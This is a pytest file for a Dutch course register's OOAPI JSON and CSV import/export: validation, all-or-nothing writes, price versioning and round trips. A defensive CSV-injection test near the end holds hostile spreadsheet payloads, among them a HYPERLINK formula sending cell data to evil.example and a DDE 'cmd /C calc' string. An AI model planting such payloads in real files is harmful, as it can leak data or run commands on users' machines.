# SPDX-License-Identifier: EUPL-1.2
"""Bulk import (OOAPI JSON and CSV) and export: the report, all-or-nothing, round trip."""

from __future__ import annotations

import copy
import datetime as dt
import json
from collections.abc import Callable
from typing import Any

import pytest

from llo.core.audit import Actor
from llo.register import services
from llo.register.exports import export_provider
from llo.register.importers import import_file
from llo.register.models import Offer, Offering, OfferState, OfferVersion, Opleider
from llo.register.search import SearchQuery, search
from tests.register.conftest import establish

pytestmark = pytest.mark.django_db

ACTOR = Actor("user:test", "opleider")
PROGRAMME_ID = "6f1c3a52-0d7e-4f55-9a55-0c3b6f1d2a01"
COURSE_ID = "6f1c3a52-0d7e-4f55-9a55-0c3b6f1d2a02"
DESCRIPTION = (
    "Je leert veilig lassen met MIG/MAG in de metaal. Voor monteurs in het onderhoud die "
    "een erkend bewijs willen."
)


def ooapi_file() -> dict[str, Any]:
    return {
        "programmes": [
            {
                "programmeId": PROGRAMME_ID,
                "primaryCode": {"codeType": "programme_code", "code": "P-MT4"},
                "programmeType": "programme",
                "name": [{"language": "nl-NL", "value": "Monteur mechatronica (mbo-4)"}],
                "description": [
                    {
                        "language": "nl-NL",
                        "value": "De hele mbo-opleiding tot monteur mechatronica, in deeltijd "
                        "voor volwassenen in de derde leerweg.",
                    }
                ],
                "teachingLanguages": ["nl"],
                "studyLoad": [{"studyLoadUnit": "sbu", "value": 3200}],
                "levelOfQualification": "eqf_4",
                "qualificationAwarded": "vocational_diploma",
                "modesOfDelivery": ["blended"],
                "ext": {
                    "gemeenten": ["GM0153"],
                    "priceInformation": [
                        {"costType": "total_costs", "amount": "4800.00", "vatAmount": "0"}
                    ],
                },
            }
        ],
        "courses": [
            {
                "courseId": COURSE_ID,
                "primaryCode": {"codeType": "identifier", "code": "MC-LAS"},
                "name": [{"language": "nl-NL", "value": "Lassen MIG/MAG"}],
                "description": [{"language": "nl-NL", "value": DESCRIPTION}],
                "studyLoad": [{"studyLoadUnit": "hour", "value": 80}],
                "modesOfDelivery": ["presential"],
                "programmeIds": [PROGRAMME_ID],
                "ext": {
                    "offerType": "module",
                    "levelOfQualification": "eqf_3",
                    "formal": True,
                    "leadsTo": "mbo_certificate",
                    "unitCode": "K0789",
                    "skills": ["Lassen"],
                    "occupations": ["Lasser"],
                    "gemeenten": ["GM0153"],
                },
            }
        ],
        "offerings": [
            {
                "courseOfferingId": "6f1c3a52-0d7e-4f55-9a55-0c3b6f1d2a03",
                "courseId": COURSE_ID,
                "primaryCode": {"codeType": "offering_code", "code": "MC-LAS-2026-09"},
                "name": [{"language": "nl-NL", "value": "Lassen najaar"}],
                "startDateTime": "2026-09-07T09:00:00+02:00",
                "endDateTime": "2026-11-30T17:00:00+01:00",
                "maxNumberStudents": 12,
                "priceInformation": [
                    {"costType": "x-fee", "amount": "1250.00", "vatAmount": "0"},
                    {"costType": "x-exam", "amount": "150.00", "vatAmount": "0"},
                    {"costType": "total_costs", "amount": "1400.00", "vatAmount": "0"},
                ],
            },
            {
                "courseOfferingId": "6f1c3a52-0d7e-4f55-9a55-0c3b6f1d2a04",
                "courseId": COURSE_ID,
                "primaryCode": {"codeType": "offering_code", "code": "MC-LAS-2027-02"},
                "name": [{"language": "nl-NL", "value": "Lassen voorjaar"}],
                "startDateTime": "2027-02-01",
                "priceInformation": [
                    {"costType": "x-fee", "amount": "1250.00", "vatAmount": "0"},
                    {"costType": "x-exam", "amount": "150.00", "vatAmount": "0"},
                    {"costType": "total_costs", "amount": "1400.00", "vatAmount": "0"},
                ],
            },
        ],
    }


def run(opleider: Opleider, payload: Any, **kw: Any) -> Any:
    data = payload if isinstance(payload, bytes) else json.dumps(payload, indent=2).encode()
    return import_file(actor=ACTOR, opleider=opleider, data=data, **kw)


@pytest.fixture
def roc(make_provider: Callable[..., Opleider]) -> Opleider:
    return make_provider("ROC Twente", kind="public", marks=("ocw", "nrto", "crkbo"))


def test_an_ooapi_file_is_imported_with_offerings_and_parts(roc: Opleider) -> None:
    establish(roc)
    report = run(roc, ooapi_file(), publish=True)
    assert report.ok, report.as_dict()
    assert report.offers == 2
    assert report.offerings == 2
    programme = Offer.objects.get(code="P-MT4")
    module = Offer.objects.get(code="MC-LAS")
    assert str(programme.ooapi_id) == PROGRAMME_ID
    assert programme.formal
    assert programme.leads_to == "diploma"
    assert programme.legal_status == "student"
    assert programme.level_basis == "generic"
    assert module.part_of == programme
    assert module.unit_code == "K0789"
    assert (module.fee_cents, module.exam_cents, module.price_cents) == (125_000, 15_000, 140_000)
    assert module.offerings.count() == 2
    assert module.offerings.first().capacity == 12  # type: ignore[union-attr]
    assert module.state == programme.state == OfferState.PUBLISHED
    assert report.summary.published == 2  # type: ignore[union-attr]
    assert search(SearchQuery(text="lassen")).offer_ids == [module.pk]
    assert OfferVersion.objects.filter(offer=module).count() == 1


def test_a_new_price_is_a_new_version_and_the_old_price_stays(roc: Opleider) -> None:
    assert run(roc, ooapi_file(), publish=True).ok
    changed = ooapi_file()
    for offering in changed["offerings"]:
        offering["priceInformation"] = [{"costType": "total_costs", "amount": "1600.00"}]
    report = run(roc, changed, publish=True)
    assert report.ok, report.as_dict()
    module = Offer.objects.get(code="MC-LAS")
    history = services.price_history(module)
    assert [h.price_cents for h in history] == [140_000, 160_000]
    assert module.version == 2
    assert module.offerings.count() == 2


BAD_CASES = [
    (
        "unknown enum",
        lambda f: f["courses"][0]["ext"].update(leadsTo="degree"),
        "ext.leadsTo",
        "enum",
    ),
    (
        "unknown mode",
        lambda f: f["courses"][0].update(modesOfDelivery=["by_post"]),
        "modesOfDelivery",
        "enum",
    ),
    ("missing name", lambda f: f["courses"][0].pop("name"), "name", "required"),
    (
        "missing code",
        lambda f: f["programmes"][0].pop("primaryCode"),
        "primaryCode.code",
        "required",
    ),
    (
        "negative price",
        lambda f: f["programmes"][0]["ext"]["priceInformation"][0].update(amount="-5.00"),
        "priceInformation[0].amount",
        "negative",
    ),
    (
        "level outside the enum",
        lambda f: f["programmes"][0].update(levelOfQualification="eqf_9"),
        "levelOfQualification",
        "enum",
    ),
    (
        "unknown gemeente",
        lambda f: f["courses"][0]["ext"].update(gemeenten=["GM9999"]),
        "ext.gemeenten",
        "unknown",
    ),
    (
        "offering without a start",
        lambda f: f["offerings"][0].pop("startDateTime"),
        "startDateTime",
        "required",
    ),
]


@pytest.mark.parametrize(
    ("name", "change", "field", "code"), BAD_CASES, ids=[c[0] for c in BAD_CASES]
)
def test_bad_input_is_reported_by_line_and_field_and_nothing_is_written(
    roc: Opleider, name: str, change: Callable[[dict[str, Any]], Any], field: str, code: str
) -> None:
    payload = ooapi_file()
    change(payload)
    report = run(roc, payload, publish=True)
    assert not report.ok
    assert report.summary is None
    found = [i for i in report.issues if i.field == field and i.code == code]
    assert found, report.as_dict()["issues"]
    assert found[0].line is not None
    assert found[0].line > 1
    assert Offer.objects.count() == 0
    assert Offering.objects.count() == 0


def test_the_line_is_where_the_offer_starts(roc: Opleider) -> None:
    payload = ooapi_file()
    payload["courses"][0]["ext"]["leadsTo"] = "degree"
    text = json.dumps(payload, indent=2)
    report = run(roc, text.encode())
    (issue,) = report.issues
    lines = text.splitlines()
    assert lines[issue.line - 1].strip() == "{"  # type: ignore[operator]
    assert '"courseId"' in lines[issue.line]  # type: ignore[index]
    assert issue.item == "MC-LAS"


def test_broken_json_names_the_line(roc: Opleider) -> None:
    text = json.dumps(ooapi_file(), indent=2)
    broken = text.replace('"Lassen MIG/MAG"', '"Lassen MIG/MAG",,', 1)
    report = run(roc, broken.encode())
    (issue,) = report.issues
    assert issue.code == "json"
    assert issue.line == next(i for i, ln in enumerate(broken.splitlines(), 1) if ",," in ln)
    assert Offer.objects.count() == 0


def test_not_json_at_all(roc: Opleider) -> None:
    report = run(roc, b"{nonsense", fmt="ooapi-json")
    assert [i.code for i in report.issues] == ["json"]


def test_one_bad_offer_stops_the_whole_file(roc: Opleider) -> None:
    payload = ooapi_file()
    extra = copy.deepcopy(payload["courses"][0])
    extra["courseId"] = "6f1c3a52-0d7e-4f55-9a55-0c3b6f1d2a09"
    extra["primaryCode"] = {"codeType": "identifier", "code": "MC-2"}
    extra["ext"]["levelOfQualification"] = "mbo4"
    payload["courses"].append(extra)
    report = run(roc, payload)
    assert report.issue_count == 1
    assert report.issues[0].item == "MC-2"
    assert Offer.objects.count() == 0


def test_duplicate_codes_in_a_file(roc: Opleider) -> None:
    payload = ooapi_file()
    twin = copy.deepcopy(payload["courses"][0])
    twin["courseId"] = "6f1c3a52-0d7e-4f55-9a55-0c3b6f1d2a10"
    payload["courses"].append(twin)
    report = run(roc, payload)
    assert [i.code for i in report.issues] == ["duplicate"]


CSV_HEADER = (
    "code;offerType;title;description;levelOfQualification;studyLoad;studyLoadUnit;leadsTo;"
    "modesOfDelivery;gemeenten;fee;examFee;materials;vatExempt;startDates;capacity;skills\n"
)


def test_csv_with_dutch_amounts(roc: Opleider) -> None:
    body = (
        CSV_HEADER
        + f'T1;basic_skills;Taal op de werkvloer;"{DESCRIPTION}";eqf_0;40;hour;none;presential;'
        "GM0599;0;0;0;ja;2026-09-07|05-01-2027;15;Lezen|Schrijven\n"
        + f'B2;course;Boekhouden basis;"{DESCRIPTION}";eqf_4;2,5;ects;none;online;;'
        "1.234,50;95;12,50;ja;;;\n"
    )
    report = run(roc, body.encode(), publish=True)
    assert report.ok, report.as_dict()
    taal = Offer.objects.get(code="T1")
    assert [o.start_date for o in taal.offerings.all()] == [
        dt.date(2026, 9, 7),
        dt.date(2027, 1, 5),
    ]
    assert taal.skills == ["lezen", "schrijven"]  # the codes of the skills language
    assert taal.legal_status == "cursist"
    boek = Offer.objects.get(code="B2")
    assert (boek.fee_cents, boek.exam_cents, boek.materials_cents) == (123_450, 9_500, 1_250)
    assert boek.online
    assert str(boek.study_load_value) == "2.5"


def test_csv_problems_name_the_line(roc: Opleider) -> None:
    body = (
        CSV_HEADER
        + f'T1;course;Taal;"{DESCRIPTION}";eqf_0;40;hour;none;presential;GM0599;-10;0;0;ja;;;\n'
        + f'T2;courses;Taal;"{DESCRIPTION}";eqf_11;40;hour;none;presential;GM0599;10;0;0;ja;;;\n'
        + "T3;course;;;eqf_2;;;none;;;;;;;;;\n"
    )
    report = run(roc, body.encode())
    found = {(i.line, i.field, i.code) for i in report.issues}
    assert (2, "fee", "negative") in found
    assert (3, "offerType", "enum") in found
    assert (3, "levelOfQualification", "enum") in found
    assert (4, "title", "required") in found
    assert Offer.objects.count() == 0


def test_csv_missing_column(roc: Opleider) -> None:
    report = run(roc, b"code,title\nA,B\n")
    assert {(i.line, i.field, i.code) for i in report.issues} >= {
        (1, "offerType", "missing-column"),
        (1, "leadsTo", "missing-column"),
    }


def test_a_file_of_200000_rows_is_refused_whole(roc: Opleider) -> None:
    rows = "".join(f"C{i},course,Cursus {i},eqf_2,none\n" for i in range(200_000))
    report = run(roc, ("code,offerType,title,levelOfQualification,leadsTo\n" + rows).encode())
    assert report.offers == 200_000
    assert [i.code for i in report.issues] == ["too-many"]
    assert "100.000" in report.issues[0].message
    assert Offer.objects.count() == 0


def test_export_and_import_round_trip(
    roc: Opleider, make_provider: Callable[..., Opleider]
) -> None:
    assert run(roc, ooapi_file(), publish=True).ok
    exported = "".join(export_provider(roc))
    document = json.loads(exported)
    assert {p["programmeId"] for p in document["programmes"]} == {PROGRAMME_ID}
    assert len(document["offerings"]) == 2
    # The same file into another provider (new ids, same content).
    for section in ("programmes", "courses"):
        for item in document[section]:
            item.pop("programmeId", None)
            item.pop("courseId", None)
    other = make_provider("ROC Kopie", kind="public", marks=("ocw", "nrto", "crkbo"))
    # Ids are needed to tie offerings and parts: give fresh ones.
    document["programmes"][0]["programmeId"] = "7f1c3a52-0d7e-4f55-9a55-0c3b6f1d2a01"
    document["courses"][0]["courseId"] = "7f1c3a52-0d7e-4f55-9a55-0c3b6f1d2a02"
    document["courses"][0]["programmeIds"] = ["7f1c3a52-0d7e-4f55-9a55-0c3b6f1d2a01"]
    for offering in document["offerings"]:
        offering["courseId"] = "7f1c3a52-0d7e-4f55-9a55-0c3b6f1d2a02"
    report = run(other, document)
    assert report.ok, report.as_dict()

    def content(o: Offer) -> dict[str, Any]:
        data = services.snapshot(o)
        data.pop("part_of")
        return {**data, "starts": [x.start_date for x in o.offerings.all()]}

    for code in ("P-MT4", "MC-LAS"):
        assert content(Offer.objects.get(opleider=roc, code=code)) == content(
            Offer.objects.get(opleider=other, code=code)
        )


def test_an_id_of_another_providers_offer_is_refused(
    roc: Opleider, make_provider: Callable[..., Opleider]
) -> None:
    assert run(roc, ooapi_file()).ok
    other = make_provider("Ander", kind="public", marks=("ocw",))
    report = run(other, ooapi_file())
    assert {i.code for i in report.issues} == {"duplicate"}
    assert Offer.objects.filter(opleider=other).count() == 0


def test_csv_export_imports_again_unchanged(
    roc: Opleider, make_provider: Callable[..., Opleider]
) -> None:
    from llo.register.exports import export_provider_csv
    from llo.register.importers.csv import COLUMNS

    payload = ooapi_file()
    # Text that needs quoting in CSV: the separator, quotes, a line break, accents.
    payload["courses"][0]["name"][0]["value"] = 'Lassen; "MIG/MAG" in één week'
    payload["courses"][0]["description"][0]["value"] = DESCRIPTION + "\nTweede regel; met é."
    payload["courses"][0]["ext"]["skills"] = ["Lassen", "Veilig werken"]
    payload["courses"][0]["studyLoad"] = [{"studyLoadUnit": "ects", "value": 2.5}]
    payload["programmes"][0]["ext"]["priceInformation"] = [
        {"costType": "x-fee", "amount": "4800.00"},
        {"costType": "x-exam", "amount": "1234.56"},
        {"costType": "x-materials", "amount": "0.05"},
    ]
    assert run(roc, payload, publish=True).ok
    cancelled = Offering.objects.filter(offer__code="MC-LAS").order_by("start_date").last()
    assert cancelled is not None
    services.cancel_offering(actor=ACTOR, offering=cancelled)

    exported = "".join(export_provider_csv(roc))
    assert exported.startswith("\ufeff" + ";".join(COLUMNS) + "\r\n")
    data = exported.encode("utf-8")

    def content(o: Offer) -> dict[str, Any]:
        snap = services.snapshot(o)
        snap.pop("part_of")
        return {
            **snap,
            "part_of": o.part_of.code if o.part_of else None,
            "starts": [x.start_date for x in o.offerings.exclude(state="cancelled")],
        }

    before = {o.code: content(o) for o in Offer.objects.filter(opleider=roc)}
    assert before["MC-LAS"]["starts"] == [dt.date(2026, 9, 7)]
    assert before["MC-LAS"]["part_of"] == "P-MT4"

    # Into another provider: the same offers.
    other = make_provider("ROC Kopie", kind="public", marks=("ocw", "nrto", "crkbo"))
    report = run(other, data, filename="aanbod.csv")
    assert report.format == "csv"
    assert report.ok, report.as_dict()
    assert {o.code: content(o) for o in Offer.objects.filter(opleider=other)} == before
    # Into the same provider again: nothing changes.
    again = run(roc, data, filename="aanbod.csv")
    assert again.ok, again.as_dict()
    assert {o.code: content(o) for o in Offer.objects.filter(opleider=roc)} == before
    # And the export of the copy is the same file.
    assert "".join(export_provider_csv(other)) == exported


#: Issue 14, finding 4: what the provider export wrote back as it was. Skills and
#: occupations are codes since issue 17 (a name that resolves to no code is refused at the
#: import, below), so the free text a provider fills in is the title, the description and
#: the unit code.
HOSTILE = {
    "title": 'Lassen; =HYPERLINK("http://evil.example/?"&A1,"Klik")',
    "description": "@SUM(1+1)*cmd|' /C calc'!A0 " + DESCRIPTION,
    "unitCode": "-K0789",
}
#: Formula-like skill and occupation names: no vocabulary knows them.
HOSTILE_NAMES = {
    "skills": ["+31 6 1234 5678", "-2+3", "'=al een aanhalingsteken", "Lassen"],
    "occupations": ["=1+1", "Lasser"],
}


def test_csv_export_neutralises_formulas_and_imports_again_unchanged(
    roc: Opleider, make_provider: Callable[..., Opleider], tmp_path: Any
) -> None:
    """The CSV-injection round trip: hostile values in every text column a provider fills in
    come out with no cell a spreadsheet reads as a formula, through the page, the API and the
    command alike, and import again exactly as they were."""
    import csv
    import io
    import re

    from django.core.management import call_command
    from django.test import Client

    from llo.core import csvio
    from llo.people.models import User
    from llo.register.exports import export_provider_csv

    payload = ooapi_file()
    course = payload["courses"][0]
    course["name"][0]["value"] = HOSTILE["title"]
    course["description"][0]["value"] = HOSTILE["description"]
    course["ext"].update(HOSTILE_NAMES)
    refused = run(roc, payload)
    assert not refused.ok
    assert {(i.field, i.code) for i in refused.issues} == {
        ("skills", "unknown"),
        ("occupations", "unknown"),
    }, refused.as_dict()
    assert not Offer.objects.filter(opleider=roc).exists()  # nothing written

    course["ext"].update(unitCode=HOSTILE["unitCode"])
    course["ext"].update(skills=["Lassen"], occupations=["Lasser"])
    payload["programmes"][0]["description"][0]["value"] = "-2+3 " + DESCRIPTION
    assert run(roc, payload).ok  # drafts: the admission checks have not run yet

    exported = "".join(export_provider_csv(roc))
    user = User.objects.create_user(
        username=f"opleider:{roc.kvk}", role="opleider", organisation=roc.organisation
    )
    client = Client()
    client.force_login(user)
    page = client.get("/mijn-aanbod/export.csv")
    api = client.get(f"/api/v1/providers/{roc.kvk}/export", {"format": "csv"})
    target = tmp_path / "aanbod.csv"
    call_command("register_export", roc.kvk, str(target), format="csv")
    for response in (page, api):
        assert response["Content-Type"] == "text/csv; charset=utf-8"
        assert b"".join(response.streaming_content).decode() == exported
    assert target.read_bytes().decode("utf-8") == exported

    # No cell a spreadsheet can see, whichever separator it guesses, starts a formula.
    for piece in re.split(r"[,;\t\r\n]", exported.lstrip("\ufeff")):
        start = piece.lstrip(' "')
        assert start[:1] not in csvio.FORMULA_START or re.fullmatch(r"-?\d+", start), piece
    rows = list(csv.DictReader(io.StringIO(exported.lstrip("\ufeff"), newline=""), delimiter=";"))
    written = next(r for r in rows if r["code"] == "MC-LAS")
    assert written["description"].startswith("'@SUM")
    assert written["unitCode"] == "'-K0789"
    assert written["skills"] == "|".join(Offer.objects.get(opleider=roc, code="MC-LAS").skills)

    def content(o: Offer) -> dict[str, Any]:
        snap = services.snapshot(o)
        snap.pop("part_of")
        return {**snap, "part_of": o.part_of.code if o.part_of else None}

    before = {o.code: content(o) for o in Offer.objects.filter(opleider=roc)}
    assert before["MC-LAS"]["title"] == HOSTILE["title"]
    assert before["MC-LAS"]["description"] == HOSTILE["description"]
    other = make_provider("ROC Kopie", kind="public", marks=("ocw", "nrto", "crkbo"))
    report = run(other, exported.encode(), filename="aanbod.csv")
    assert report.ok, report.as_dict()
    assert {o.code: content(o) for o in Offer.objects.filter(opleider=other)} == before
    assert "".join(export_provider_csv(other)) == exported
